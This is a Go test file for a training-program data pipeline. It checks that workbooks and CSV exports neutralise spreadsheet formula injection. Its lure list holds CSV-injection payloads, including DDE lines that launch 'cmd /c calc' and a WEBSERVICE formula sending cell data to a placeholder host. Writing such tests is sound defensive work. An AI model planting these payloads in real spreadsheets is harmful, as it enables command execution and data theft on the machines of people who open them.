package strange_test

import (
	"encoding/csv"
	"fmt"
	"html"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"chuangpei/pipeline/report"
	"chuangpei/pipeline/town"
)

// lures are texts that a spreadsheet, or a CSV read by one, would carry out. Each goes into every field of text.
func lures() []string {
	return []string{`=1+1`, `+1+1`, `-1+1`, `@SUM(A1)`, "\t=1+1", `=HYPERLINK("http://example.invalid","点击")`,
		`=cmd|'/c calc'!A0`, `=DDE("cmd","/c calc","1")`,
		`=WEBSERVICE("http://example.invalid/"&A1)`, `＝1+1`, `＋1`, `－1`, `＠SUM(A1)`, `'=1+1`, `"=1+1"`,
		`=IMPORTXML("http://example.invalid","//a")`}
}

// baited is a city of one class whose every field of text is a lure, played through every kind of workbook.
func baited(t *testing.T) (*town.Town, []string) {
	t.Helper()
	w, all, n := town.New(t), lures(), 0
	lure := func() string { n++; return all[n%len(all)] }
	s := town.SchoolOf("150104", 1)
	s.Name = "=示例学校"
	k := town.ClassOf(s, "SYB", "2025-02-03", town.Crowd(1, 4))
	k.Name, k.Fund = all[0], town.Jobs
	for i, sign := range []string{"=", "+", "-", "@"} {
		k.People[i].Name = sign + k.People[i].Name
	}
	k.Payer = map[int]string{0: "个人", 1: "个人"}
	reg := append(town.Registers(2025, []town.School{s}, town.Given("150104", town.Jobs, "100000", lure())),
		town.Sheet{Name: "平台反馈", Rows: [][]any{{"年度", "反馈方", "名称", "评分", "意见"},
			{2025, "机构", lure(), 5, lure()}}},
		town.Sheet{Name: "平台比选", Rows: [][]any{{"供应商名称", "评审项", "分值", "得分", "评委"},
			{"=示甲", lure(), 60, 50, lure()},
			{"@示乙", lure(), 60, 40, lure()}}},
		town.Sheet{Name: "履职记录", Rows: [][]any{{"事项", "日期", "说明"}, {"讲师能力提升培训", "2025-01-05", lure()},
			{lure(), "2025-01-06", lure()}}})
	reg[0].Rows[1][7] = lure()
	reg[0].Rows[0], reg[0].Rows[1] = append(reg[0].Rows[0], "联系人"), append(reg[0].Rows[1], lure())
	w.Drop("市级/=登记.xlsx", reg)
	opening := k.Opening()
	opening[0].Rows[5][1], opening[0].Rows[9][1], opening[0].Rows[12][1] = k.Name, lure(), lure()
	opening[1].Rows[0] = append(opening[1].Rows[0], "文化程度", "备注", "=额外")
	for i := range k.People {
		opening[1].Rows[i+1] = append(opening[1].Rows[i+1], lure(), lure(), lure())
	}
	for i := range k.Sittings {
		opening[2].Rows[i+1][4] = lure()
	}
	w.Drop(town.Academy(s)+"/=1+1.xlsx", append(opening, town.Sheet{Name: "=附表", Rows: [][]any{{lure(), lure()}}}))
	k.Foretell(1)
	completion := k.Completion()
	for i := range k.Sittings {
		completion[1].Rows[i+1][4] = lure()
	}
	w.Drop(town.Academy(s)+"/@SUM(A1).xlsx", completion)
	claim := k.Claim(0, 1, 2)
	claim[0].Rows[6][1], claim[1].Rows[1][5], claim[1].Rows[2][5] = lure(), lure(), lure()
	w.Drop(town.Academy(s)+"/-1.xlsx", claim)
	w.Night("2025-02-09") // the last day of the class
	if opened := w.Receipt(town.Academy(s) + "/=1+1.xlsx"); opened.Head["班期编号"] != k.Number {
		t.Fatal(opened.Head, opened.Findings)
	}
	bait(w, k, lure)
	return w, all
}

// bait goes on with payments, uplifts, decisions and a workbook with real formulas.
func bait(w *town.Town, k *town.Class, lure func() string) {
	w.Helper()
	entries := town.Column(w.Ledger("150104", 2025), "台账编号")
	w.Drop("旗县区/150104/+拨付.xlsx", town.Pay("2025-02-12", [4]string{entries[0], "成功", lure(), ""},
		[4]string{entries[1], "退票", "", lure()}))
	one := town.Shop{Class: k, N: 0, Certificate: w.Certificates(k.Number)[0]["证书编号"],
		Code: town.Credit("92990101MJ" + k.People[0].Phone[4:]), Founded: "2025-02-10", State: "存续",
		Day:   "2025-08-10",
		Asked: "480"}
	more := town.Uplift(one)
	more[0].Rows[1][3], more[0].Rows[1][9] = lure(), lure()
	w.Drop(town.Academy(k.School)+"/=上浮.xlsx", more)
	w.Night("2025-08-11")
	decision := town.Decide("2025-08-11", [3]string{w.Certificates(k.Number)[3]["证书编号"], "撤销", lure()},
		[3]string{w.Told(town.Academy(k.School) + "/=上浮.xlsx"), "撤销", lure()})
	decision[0].Rows[1][3], decision[0].Rows[2][3] = lure(), lure()
	w.Drop("旗县区/150104/-意见.xlsx", decision)
	w.DropBytes(town.Academy(k.School)+"/=公式.xlsx", calculated(w, k))
	w.Night("2025-08-12")
	for file, want := range map[string]string{town.Academy(k.School) + "/@SUM(A1).xlsx": "受理",
		town.Academy(k.School) +
			"/-1.xlsx": "受理", "旗县区/150104/+拨付.xlsx": "受理", "旗县区/150104/-意见.xlsx": "受理"} {
		if r := w.Receipt(file); r.Result() != want {
			w.Errorf("%s: %s %v", file, r.Result(), r.Findings)
		}
	}
}

// calculated is an opening that holds formulas, links and a validation of its own.
func calculated(w *town.Town, k *town.Class) []byte {
	w.Helper()
	other := town.ClassOf(k.School, "GYB", "2025-09-01", town.Crowd(30, 3))
	f, err := excelize.OpenReader(strings.NewReader(string(town.Book(w, other.Opening()))))
	w.Must(err)
	defer f.Close()
	_ = f.SetCellStr("学员名单", "E1", "备注")
	_ = f.SetCellStr("学员名单", "E2", "算出来的")
	_ = f.SetCellFormula("学员名单", "E2", `=HYPERLINK("http://example.invalid","点击")`)
	_ = f.SetCellHyperLink("学员名单", "A2", "http://example.invalid", "External")
	_ = f.SetDefinedName(&excelize.DefinedName{Name: "_xlnm.Print_Area", RefersTo: "学员名单!$A$1:$B$2",
		Scope: "学员名单"})
	_ = f.AddComment("学员名单", excelize.Comment{Cell: "A2", Text: "=1+1"})
	text, err := f.WriteToBuffer()
	w.Must(err)
	return text.Bytes()
}

// TestNothingThatComesInIsCarriedOut: in every workbook that comes out, marked copies included, no cell is a formula,
// nothing points outside, and what looks like a formula stands where texts stand and nowhere else.
func TestNothingThatComesInIsCarriedOut(t *testing.T) {
	t.Parallel()
	w, all := baited(t)
	marked := filepath.Join(w.Home, "outbox", "marked")
	if _, err := w.Check("2025-08-13",
		[]string{kept(w, "=校验.xlsx",
			calculated(w, town.ClassOf(town.SchoolOf("150104", 1), "GYB", "2025-10-01", town.Crowd(40, 3))))},
		marked); err != nil {
		t.Fatal(err)
	}
	texts, seen, formula := regexp.MustCompile(`(?s)<(?:\w+:)?t(?: [^>]*)?>.*?</(?:\w+:)?t>`), 0,
		regexp.MustCompile(`<(?:\w+:)?f[ >/]`)
	ownPaper := regexp.MustCompile(
		`hyperlink" TargetMode="External" Target="(%[0-9A-F]{2}|[\w-]|/[^./])+\.(xlsx|html)"`)
	for file, parts := range w.Unzipped() {
		for part, text := range parts {
			if strings.HasPrefix(part, "xl/worksheets/") && formula.MatchString(text) {
				t.Errorf("%s %s holds a formula", file, part)
			}
			inside := ownPaper.ReplaceAllString(text, "") // 今日待办 leads to papers beside it
			if strings.Contains(part, "externalLink") || strings.Contains(inside, `TargetMode="External"`) ||
				strings.Contains(text, "ddeLink") {
				t.Errorf("%s %s points outside", file, part)
			}
			rest := html.UnescapeString(texts.ReplaceAllString(text, ""))
			for _, lure := range all[:9] {
				if seen += strings.Count(html.UnescapeString(text), lure); strings.Contains(rest, lure) {
					t.Errorf("%s %s holds %q outside a text", file, part, lure)
				}
			}
		}
	}
	if files := len(w.Unzipped()); files < 25 || seen < 60 {
		t.Fatalf("%d workbooks, %d lures: nothing came out", files, seen)
	}
	if got := town.Column(w.Ledger("150104", 2025), "姓名"); got[0][0] != '=' || got[1][0] != '+' {
		t.Errorf("names are not what was written: %v", got)
	}
	exportIsHarmless(w)
}

// kept writes a file beside the inbox.
func kept(w *town.Town, name string, data []byte) string {
	w.Helper()
	file := filepath.Join(w.TempDir(), name)
	w.Must(os.WriteFile(file, data, 0o600))
	return file
}

// exportIsHarmless reads every field of an export: one that a spreadsheet would carry out begins with an apostrophe,
// numbers aside.
func exportIsHarmless(w *town.Town) {
	w.Helper()
	dir, number, fields, guarded := filepath.Join(w.TempDir(), "out"), regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`), 0, 0
	if _, err := report.Export(w.Context(), w.HomeFolder(), dir, "csv", true); err != nil {
		w.Fatal(err)
	}
	err := fs.WalkDir(os.DirFS(dir), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		rows, err := csv.NewReader(strings.NewReader(string(text))).ReadAll()
		for _, row := range rows {
			for _, field := range row {
				fields++
				if strings.HasPrefix(field, "'") {
					guarded++
				}
				if strings.ContainsAny(first(field), "=+-@\t\r\n＝＋－＠") && !number.MatchString(field) {
					w.Errorf("%s: a spreadsheet would carry out %q", name, field)
				}
			}
		}
		return err
	})
	if err != nil || fields < 1000 || guarded < 30 {
		w.Fatalf("%d fields, %d guarded: %v", fields, guarded, err)
	}
}

// first is the first character of a text.
func first(text string) string {
	for _, r := range text {
		return fmt.Sprintf("%c", r)
	}
	return ""
}
